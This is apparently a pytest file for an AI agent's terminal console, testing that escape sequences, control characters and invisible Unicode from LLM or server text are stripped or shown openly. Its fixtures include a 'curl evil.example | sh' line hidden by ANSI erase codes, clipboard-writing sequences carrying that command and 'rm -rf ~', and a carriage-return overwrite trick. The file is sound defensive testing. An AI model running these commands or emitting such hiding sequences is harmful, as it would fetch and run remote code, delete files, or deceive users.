"""What reaches the terminal: text from an LLM, a server or a file is shown, never obeyed (no escape sequence or
control character gets through the Console), printing never fails a run (unencodable characters escaped, a closed
pipe ends the run quietly with 141), and the end-of-run report cannot turn a finished run into a failure."""

from __future__ import annotations

import io
import os
import random
import re
import subprocess
import sys
import time

import colorama
import pytest
from fakes import Sink
from helpers import CONTROLS, RUN_JARVIS, child_environment, run_jarvis, transcript_answering
from loopback_llm import HTTPError, LoopbackLLMServer
from subprocess_guard import network_guarded
from waiting import wait_until

from aiflows_jarvis.CoreFlowModule import Console, RunContext, clean_text
from aiflows_jarvis.CoreFlowModule.console.interaction import _STYLES, OutputClosed, TerminalInput

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
HIDDEN_CODE = f"import os; os.system('curl evil.example | sh'){ESC}[2K{ESC}[Gprint('hello')"
EVIL = (
    f"{ESC}]0;pwned{BEL}{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}{HIDDEN_CODE}\r"
    f"{ESC}P+q544e{ST}\x9b2J\x9d0;t\x9c\x85\x00\x7f done"
)


def controls_in(text: str) -> set:
    return {c for c in text if c in CONTROLS}


# ~~~ clean_text ~~~
@pytest.mark.parametrize(
    "raw, shown",
    [
        (
            HIDDEN_CODE,
            "import os; os.system('curl evil.example | sh')print('hello')",
        ),  # ESC[2K ESC[G hid the first part
        (f"a{ESC}[31;1mred{ESC}[0m b{ESC}[?25l{ESC}[10;20H", "ared b"),  # colours, hidden cursor, cursor moved
        (f"copy{ESC}]52;c;cm0gLXJmIH4={BEL}!", "copy!"),  # OSC 52 writes the clipboard
        (f"x{ESC}]0;my title{BEL}y", "xy"),  # OSC 0, ended by BEL...
        (f"x{ESC}]2;my title{ST}y", "xy"),  # ... or by ST
        (f"x{ESC}]8;;http://evil.example{ST}link{ESC}]8;;{ST}", "xlink"),  # hyperlink whose target is not shown
        (f"x{ESC}P1$r0m{ST}y", "xy"),  # DCS
        (f"x{ESC}Xsos{ST}{ESC}^pm{ST}{ESC}_apc{ST}y", "xy"),  # SOS, PM, APC
        (f"x{ESC}cy{ESC}(B{ESC}7{ESC}8z", "xyz"),  # two-byte sequences: reset, charset, save/restore cursor
        ("x\x9b2Ky", "x2Ky"),  # the 8-bit CSI (U+009B) is a C1 control: removed, what follows left visible
        ("x\x9d0;title\x9cy\x90dcs\x9cz", "x0;titleydcsz"),  # 8-bit OSC, DCS and ST alike
        (f"x{ESC}]0;title\x9cy", "xy"),  # an OSC ended by the 8-bit ST
        ("a\x84b\x85c\x8dd\x9fe", "abcde"),  # other C1 controls (IND, NEL, RI, APC)
        ("rm -rf ~\rls -l", "rm -rf ~\nls -l"),  # a lone CR would overwrite what the user reads
        ("one\r\ntwo\r\n", "one\ntwo\n"),
        ("abc\b\b\bxyz", "abcxyz"),  # backspaces overwrite too
        ("a\x00b\x7fc\x07d\x0be\x0cf", "abcdef"),  # NUL, DEL, BEL, VT, FF
        (f"unterminated {ESC}]0;title", "unterminated 0;title"),  # nothing swallowed, nothing left for the terminal
        (f"lone {ESC}", "lone "),
    ],
)
def test_clean_text_removes_each_kind_of_sequence_and_control(raw, shown):
    assert clean_text(raw) == shown


def test_clean_text_keeps_line_breaks_tabs_and_unicode_as_they_are():
    text = "def f():\n\treturn 'café, 日本語, ∑, 🎉, עברית'\n\n"
    assert clean_text(text) is text, "nothing to clean: the very same string"
    assert clean_text(text + "\x1b[0m") == text


def test_clean_text_can_leave_carriage_returns_to_the_interpreter():
    assert clean_text(f"10%\r{ESC}[2K50%\r\n", keep_carriage_returns=True) == "10%\r50%\r\n"


def test_nothing_a_terminal_acts_on_survives_any_mix():
    """Whatever the mix (sequences cut anywhere, nested, unterminated), no control character is left."""
    rng = random.Random(11)
    pieces = [
        ESC,
        "[",
        "]",
        "P",
        "X",
        "^",
        "_",
        "\\",
        BEL,
        "\x9b",
        "\x9c",
        "\x9d",
        "\x90",
        "0;",
        "52;c;",
        "2K",
        "\r",
        "\n",
        "\t",
        "a",
        "é",
        "\x00",
        "\x7f",
        "\x85",
        "m",
        "?25l",
        "ok ",
    ]
    for _ in range(3000):
        raw = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
        cleaned = clean_text(raw)
        assert not controls_in(cleaned), (raw, cleaned)
        assert clean_text(cleaned) == cleaned, "cleaning twice changes nothing"


@pytest.mark.parametrize(
    "shape",
    [
        f"{ESC}[2K{ESC}]0;t{BEL}\x9b1m{ESC}]52;c;QUFB{ST}abc\r\n",  # well-formed, dense
        f"{ESC}]",  # OSCs never ended
        "\x9d",  # 8-bit OSCs never ended (each a run the next one could extend)
        "\x90",  # 8-bit DCSs never ended
        f"{ESC}[1;",  # CSIs with parameters and no final byte
        f"{ESC}P" + "a" * 1000,  # long DCS payloads never ended
    ],
)
def test_clean_text_is_linear_on_5_mb_of_escape_heavy_text(shape):
    raw = shape * (5_000_000 // len(shape))
    started = time.monotonic()
    cleaned = clean_text(raw)
    took = time.monotonic() - started
    assert not controls_in(cleaned)
    print(f"{took:.2f}s for 5 MB (linear: under 1 s measured)")  # a figure, not an assertion


@pytest.mark.parametrize("shape", [f"{ESC}[1;2", f"{ESC}]0;title", f"{ESC}Ppayload", f"{ESC}[?25 "])
def test_unterminated_sequences_are_cleaned_in_time_linear_in_their_number(shape):
    """100,000 unterminated sequences (1 MB) are cleaned within a constant factor of one pass of a plain character
    class over the same text, which is linear by construction. Both are timed in the same moments (best of five,
    interleaved), so a busy machine slows both alike, and caches see texts of the same size. A pattern that
    backtracked into later sequences would scan the rest of the text at each of them: about 10^11 steps here, some
    thousands of times the pass."""
    text = shape * 100_000
    one_pass = re.compile("[\x00-\x1f]")
    cleaning, passing = [], []
    for _ in range(5):
        started = time.perf_counter()
        cleaned = clean_text(text)
        cleaning.append(time.perf_counter() - started)
        started = time.perf_counter()
        one_pass.sub("", text)
        passing.append(time.perf_counter() - started)
        assert not controls_in(cleaned)
    ratio = min(cleaning) / max(min(passing), 1e-6)
    print(f"cleaning takes {ratio:.1f}x one pass of a character class")
    assert ratio < 100, f"cleaning {shape!r} x 100,000 took {ratio:.0f}x one linear pass over it: not linear"


@pytest.mark.parametrize("shape", [f"{ESC}[1;2", f"{ESC}]0;title", f"{ESC}Ppayload", f"{ESC}[?25 "])
def test_unterminated_sequences_lose_their_introducer_and_keep_their_text(shape):
    """100,000 unterminated sequences: each loses its ESC and introducer, and what followed stays as plain text (none
    swallows the next ones). How the time grows with their number is a figure: benchmarks/clean_text_scaling.py."""
    for count in (12_500, 100_000):
        cleaned = clean_text(shape * count)
        assert not controls_in(cleaned)
        assert cleaned == shape[2:] * count, cleaned[:80]


# ~~~ invisible characters: shown as their code point, the set taken from the Unicode properties ~~~
INVISIBLE = [
    "\u034f",
    "\ufe0f",
    "\U000e0100",
    "\U000e0001",
    "\U000e0041",
    "\U000e007f",
    "\u00ad",
    "\u2028",
    "\u2029",
    "\u2800",
    "\u17b4",
    "\u17b5",
    "\u115f",
    "\u1160",
    "\u3164",
    "\uffa0",
    "\u180b",
    "\u2065",
]


@pytest.mark.parametrize("char", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
def test_each_invisible_character_is_shown_as_its_code_point(char):
    shown = clean_text(f"def cleanup{char}(): pass")
    assert shown == f"def cleanup<U+{ord(char):04X}>(): pass"


def test_the_invisible_set_holds_every_format_character_separator_and_variation_selector_of_unicode():
    """The whole code space, not only the planes the set is built from: a character of these categories anywhere
    else would be missed."""
    import unicodedata

    from aiflows_jarvis.CoreFlowModule.console.terminal import invisible_code_points

    shown = set(invisible_code_points())
    for cp in range(0x110000):
        char = chr(cp)
        kind = unicodedata.category(char)
        if kind in ("Cf", "Zl", "Zp") or "VARIATION SELECTOR" in unicodedata.name(char, ""):
            assert cp in shown, f"U+{cp:04X} ({kind}) is not shown"
    assert not shown & {ord(c) for c in "aé中 \t\u00a0"}, "letters and spaces are left as they are"


def test_the_review_and_the_report_show_the_hidden_name_and_the_editor_is_announced(user, fake_editor, quiet_console):
    from aiflows_jarvis.app.report_html import esc
    from aiflows_jarvis.HumanStandardInputFlowModule import HumanReviewFlow

    code = "def cleanup\u034f(): pass  # the safe version\ncleanup()\n"
    user.add("e", "")
    HumanReviewFlow.instantiate_from_default_config(content_key="code").run({"code": code})
    assert "def cleanup<U+034F>(): pass" in quiet_console.text
    assert "U+034F on line 1" in quiet_console.text, "said before the editor shows the raw text"
    assert esc(code).startswith("def cleanup&lt;U+034F&gt;(): pass")


# ~~~ the Console ~~~
def without_own_colours(text: str) -> str:
    for code in sorted(set(_STYLES.values()) | {colorama.Style.RESET_ALL}, key=len, reverse=True):
        text = text.replace(code, "")
    return text


def test_the_console_cleans_what_it_shows_and_keeps_its_own_colours():
    sink = Sink()
    console = Console(stream=sink, color=True)
    console.show("code", f"Code{ESC}]0;t{BEL}:", EVIL)
    console.line("llm", EVIL)
    console.write(EVIL)
    assert _STYLES["code"] in sink.text and colorama.Style.RESET_ALL in sink.text, "colours still work"
    shown = without_own_colours(sink.text)
    assert not controls_in(shown), "only the console's own colour codes reach the terminal"
    assert shown.count("import os; os.system('curl evil.example | sh')print('hello')") == 3, "nothing is hidden"
    assert "Code:\n    " in shown and "pwned" not in shown and "Y3Vyb" not in shown


def test_a_carriage_return_in_a_body_starts_an_indented_line_of_its_own():
    sink = Sink()
    Console(stream=sink, color=False).show("code", "Code:", "rm -rf ~\rls -l")
    assert sink.text == "Code:\n    rm -rf ~\n    ls -l\n"


def test_the_spinner_label_is_cleaned():
    sink = Sink()
    console = Console(stream=sink, color=True, spinner=True)
    with console.working(f"{ESC}]0;t{BEL}Coder is waiting{ESC}[2K\r\n"):
        wait_until(lambda: "Coder is waiting" in sink.text, "the spinner's first line")
    shown = without_own_colours(sink.text)
    assert "Coder is waiting" in shown, "the spinner ran"
    assert not controls_in(shown.replace("\r", "")), "only the spinner's own carriage returns"


def test_questions_from_the_llm_are_shown_cleaned_and_the_prompt_is_clean():
    sink = Sink()
    prompts = []
    terminal = TerminalInput(
        read_line=lambda prompt: prompts.append(prompt) or "fine", console=Console(stream=sink, color=False)
    )
    assert terminal.ask(f"Which file?{ESC}]52;c;QUFB{BEL}{ESC}[1A{ESC}[2K") == "fine"
    assert sink.text == "Which file?\n" and prompts == ["> "]


def test_an_ascii_only_output_gets_escapes_instead_of_a_lost_line():
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="ascii", write_through=True)
    console = Console(stream=stream, color=False)
    console.show("answer", "Final answer:", "Café: 12 €, ∑ 日本")
    console.line("info", "after")
    assert raw.getvalue().decode("ascii") == "Final answer:\n    Caf\\xe9: 12 \\u20ac, \\u2211 \\u65e5\\u672c\nafter\n"


def test_a_lone_surrogate_is_escaped_not_fatal():
    raw = io.BytesIO()
    console = Console(stream=io.TextIOWrapper(raw, encoding="utf-8", write_through=True), color=False)
    console.line("info", "name \udc9b2J")  # an undecodable byte 0x9b would be an 8-bit CSI if written back raw
    assert raw.getvalue() == b"name \\udc9b2J\n"


def test_a_closed_pipe_raises_output_closed_once_then_prints_nothing():
    read_end, write_end = os.pipe()
    os.close(read_end)
    stream = os.fdopen(write_end, "w")
    console = Console(stream=stream, color=False)
    try:
        with pytest.raises(OutputClosed) as closed:
            console.line("info", "x" * 100_000)
        assert closed.value.code == 141
        assert not isinstance(closed.value, Exception), "no `except Exception` of a flow takes it for an error"
        console.show("info", "after", "the close")  # e.g. the usage report in a finally: dropped, no raise
        stream.write("what Python still buffers")
    finally:
        stream.close()  # flushed to the null device the console put in place: no BrokenPipeError


def test_input_that_cannot_write_its_prompt_ends_like_a_closed_output(monkeypatch):
    monkeypatch.setattr(sys, "stdout", io.StringIO())  # no descriptor: nothing of pytest's is redirected

    def closed(prompt):
        raise BrokenPipeError

    with pytest.raises(OutputClosed):
        TerminalInput(read_line=closed, console=Console(stream=Sink())).ask("Question?")


# ~~~ the end-of-run report ~~~
def test_new_files_skips_what_it_cannot_look_at(tmp_path):
    from aiflows_jarvis.app.launcher import new_files

    (tmp_path / "chart.png").write_bytes(b"png")
    os.symlink(tmp_path / "gone.png", tmp_path / "dangling.png")
    assert new_files(str(tmp_path), 0) == [str(tmp_path / "chart.png")]


def test_a_failing_report_is_one_line_and_the_usage_still_shows(monkeypatch):
    from aiflows_jarvis.app import ending, launcher
    from aiflows_jarvis.app.jarvis import JARVIS
    from aiflows_jarvis.app.run import Session

    def broken(folder, since, **kwargs):
        raise PermissionError(13, "Permission denied", folder)

    monkeypatch.setattr(launcher, "new_files", broken)
    sink = Sink()
    console = Console(stream=sink, color=False)
    session = Session(JARVIS, None, console, "memory", 0, workdir="memory", memory={})
    session.run = RunContext(console=console)
    ending.show_answer(session, {"status": "finished", "answer": "42"})
    assert "Final answer:\n    42\n" in sink.text
    assert "(The end-of-run report is incomplete: PermissionError" in sink.text
    assert "LLM calls" in sink.text, "the usage report comes after"


# ~~~ through run_jarvis.py ~~~
ANSWER = f"{ESC}]0;pwned{BEL}April grew the most: Café +17.2 €.{ESC}[2K{ESC}[G Thanks."
SHOWN = "April grew the most: Café +17.2 €. Thanks."


def final_answer(stdout: bytes, encoding: str) -> str:
    return stdout.decode(encoding).split("final answer:\n")[1].split("\n")[0].strip()  # shown once, for approval


def test_a_final_answer_with_escapes_is_shown_cleaned_and_a_dangling_link_changes_nothing(tmp_path):
    memory = tmp_path / "memory"
    memory.mkdir()
    os.symlink(tmp_path / "nowhere.png", memory / "old_chart.png")
    done = run_jarvis(tmp_path, "--replay", transcript_answering(tmp_path, ANSWER), "--yes", text=False)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert b"Traceback" not in done.stderr
    assert final_answer(done.stdout, "utf-8") == SHOWN
    assert not controls_in(done.stdout.decode("utf-8").replace("\n", "")), "no escape reached the output"
    assert "\n    sales_chart.svg\n" in done.stdout.decode().split("Files made or changed in this folder:")[1]


def test_an_ascii_only_output_shows_the_final_answer_with_escapes(tmp_path):
    """The line was dropped, and the run ended with 0."""
    done = run_jarvis(
        tmp_path, "--replay", transcript_answering(tmp_path, SHOWN), "--yes", text=False, PYTHONIOENCODING="ascii"
    )
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert final_answer(done.stdout, "ascii") == SHOWN.replace("é", "\\xe9").replace("€", "\\u20ac")


def test_a_reader_that_goes_away_ends_the_run_quietly_with_141(tmp_path):
    """`run_jarvis.py ... | head -1`."""
    with network_guarded(child_environment()) as guarded:
        child = subprocess.Popen(
            [sys.executable, RUN_JARVIS, "--replay", transcript_answering(tmp_path, ANSWER), "--yes"],
            cwd=tmp_path,
            env=guarded,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        first = child.stdout.readline()
        child.stdout.close()
        _, stderr = child.communicate(timeout=240)
    assert first.startswith(b"Jarvis's goal:"), first  # the run's first line
    assert child.returncode == 141, stderr.decode()[-3000:]
    assert stderr.decode().strip() == "Stopped: the output was closed.", "no traceback, no 'Exception ignored'"
    assert (tmp_path / "memory" / "jarvis_run.json").exists(), "the memory is kept"


def test_a_server_error_message_with_escapes_is_shown_cleaned(tmp_path):
    """A 401 whose message holds an OSC crashed the error display itself (colorama's title handling)."""
    with LoopbackLLMServer(replies=[HTTPError(401, f"bad key{ESC}]0;pwned{BEL}{ESC}[2K, check it")]) as server:
        done = run_jarvis(tmp_path, "--api-base", server.url, "--yes", "Say hello", text=False)
    out = done.stdout.decode("utf-8")
    assert done.returncode in (1, 2), out[-3000:] + done.stderr.decode()[-3000:]
    assert "bad key, check it" in out and b"Traceback" not in done.stderr
    assert not controls_in(out.replace("\n", ""))


def test_verbose_shows_the_traceback_cleaned(monkeypatch, tmp_path, capsys):
    """--verbose used to re-raise: Python printed the server's text raw (and colorama choked on its OSC)."""
    from aiflows_jarvis.app import jarvis as run_jarvis
    from aiflows_jarvis.app import launcher

    def broken(*args, **kwargs):
        raise RuntimeError(f"the server said {ESC}]0;pwned{BEL}{ESC}[2Kno")

    monkeypatch.setattr(launcher, "prepare_memory", broken)
    code = run_jarvis.main(
        [
            "--replay",
            transcript_answering(tmp_path, "42"),
            "--yes",
            "--verbose",
            "--memory-dir",
            str(tmp_path / "memory"),
        ]
    )
    err = capsys.readouterr().err
    assert code == 1
    assert "Traceback (most recent call last)" in err and "RuntimeError: the server said no" in err
    assert not controls_in(err.replace("\n", ""))
